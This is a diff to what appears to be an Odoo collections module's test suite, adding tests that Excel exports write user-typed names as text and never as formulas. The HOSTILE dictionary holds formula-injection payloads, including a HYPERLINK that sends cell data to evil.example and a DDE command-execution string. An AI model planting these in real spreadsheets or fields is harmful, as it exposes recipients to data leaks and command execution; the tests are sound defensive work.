@@ -1,9 +1,11 @@
 import base64
 import io
+import zipfile
 from datetime import date, timedelta
 
 from freezegun import freeze_time
 from openpyxl import load_workbook
+from openpyxl.utils.escape import unescape
 
 from odoo.exceptions import UserError
 from odoo.tests import tagged
@@ -11,6 +13,20 @@ from odoo.tests import tagged
 from .common import CollectionCommon
 
 AS_OF = date(2026, 6, 30)
+# names a spreadsheet would run as a formula, open as a link or read as a number
+HOSTILE = {
+    "customer": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "reference": "+1+2",
+    "company": "=Aging!A1",
+    "collector": "-2+3",
+    "level": "@SUM(A1:A9)",
+    "stage": "\t=1+1",
+    "legal_stage": "\r=1+1",
+    "legal_officer": "=cmd|' /C calc'!A0",
+    "lawyer": "http://evil.example/lawyer",
+    "court": "@court",
+    "docket": "-1",
+}
 BUCKET_COLUMNS = ["Not due", "1-30", "31-60", "61-90", "91-180", "181-365", "Over 365"]
 
 
@@ -31,14 +47,17 @@ class TestExcelReports(CollectionCommon):
         cls.foreign = cls._customer("Foreign Co")
         cls._invoice(cls.foreign, 999, AS_OF - timedelta(days=10), company=cls.company_b)
 
-    def _export(self, report_type, **values):
+    def _export_file(self, report_type, **values):
         wizard = self.env["collection.report.wizard"].create(
             {"report_type": report_type, "date": AS_OF, **values}
         )
         action = wizard.action_export()
         self.assertIn("/web/content/", action["url"])
         self.assertTrue(wizard.filename.endswith(f"{AS_OF}.xlsx"))
-        return load_workbook(io.BytesIO(base64.b64decode(wizard.file)), data_only=False)
+        return io.BytesIO(base64.b64decode(wizard.file))
+
+    def _export(self, report_type, **values):
+        return load_workbook(self._export_file(report_type, **values), data_only=False)
 
     @staticmethod
     def _rows(sheet, first=4):
@@ -197,6 +216,69 @@ class TestExcelReports(CollectionCommon):
         self.assertEqual(book.sheetnames, ["Collectors"])
         self.assertEqual(self._export("cases").sheetnames, ["Cases"])
         self.assertEqual(self._export("overdue_list").sheetnames, ["Overdue"])
+
+    def _hostile_book(self):
+        """Every text a user can type, set to something a spreadsheet would evaluate."""
+        evil = self._customer(HOSTILE["customer"], ref=HOSTILE["reference"], email="e@x.com")
+        invoice = self._invoice(evil, 800, AS_OF - timedelta(days=50))
+        self.company.name = HOSTILE["company"]
+        self.collector.name = HOSTILE["collector"]
+        self.legal_officer.name = HOSTILE["legal_officer"]
+        level = self.policy.level_ids[-1:]
+        level.name = HOSTILE["level"]
+        invoice.collection_level_id = level
+        with freeze_time(AS_OF):
+            cases = self.env["collection.case"]._collection_sync(self.company, AS_OF)
+            cases.collector_id = self.collector
+            case = cases.filtered(lambda c: c.partner_id == evil)
+            case._collection_escalate("Escalated")
+        case.write(
+            {
+                "legal_user_id": self.legal_officer.id,
+                "legal_lawyer_id": self._customer(HOSTILE["lawyer"], email="l@x.com").id,
+                "legal_court_id": self._customer(HOSTILE["court"], email="c@x.com").id,
+                "legal_docket": HOSTILE["docket"],
+            }
+        )
+        case.stage_id.name = HOSTILE["stage"]
+        case.legal_stage_id.name = HOSTILE["legal_stage"]
+
+    def _assert_text_cells(self, book, expected):
+        """``expected`` texts are in ``book`` as they are; its only formulas are totals."""
+        texts = set()
+        for sheet in book:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    self.assertIsNone(cell.hyperlink, cell.coordinate)
+                    if cell.data_type == "f":
+                        self.assertRegex(cell.value, r"^=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|0)$")
+                    elif isinstance(cell.value, str):
+                        # control characters are stored escaped (_x000D_), as OOXML says;
+                        # Excel decodes them, openpyxl leaves inline strings as stored
+                        self.assertEqual(cell.data_type, "s")
+                        texts.add(unescape(cell.value))
+        for key in expected:
+            self.assertIn(HOSTILE[key], texts, key)
+
+    def test_user_text_is_written_as_text_never_as_a_formula(self):
+        self._hostile_book()
+        people = ["company", "customer", "collector"]
+        aging = self._export("aging")
+        self._assert_text_cells(aging, [*people, "reference", "level", "stage"])
+        self._assert_text_cells(
+            self._export("cases"),
+            [*people, "stage", "legal_stage", "legal_officer", "lawyer", "court", "docket"],
+        )
+        self._assert_text_cells(
+            self._export("collector", date_from=AS_OF.replace(day=1)), ["company", "collector"]
+        )
+        self._assert_text_cells(self._export("overdue_list"), people)
+        # the chart names its series after the companies without reading a name as a formula
+        with zipfile.ZipFile(self._export_file("aging")) as archive:
+            chart = archive.read("xl/charts/chart1.xml").decode()
+        self.assertIn("<c:f>Chart!$A$4</c:f>", chart)
+        self.assertNotIn("<c:f>Aging!A1</c:f>", chart)
+        self.assertNotIn("<c:f>=Aging!A1</c:f>", chart)
 
     def test_only_managers_export(self):
         with self.assertRaises(UserError):
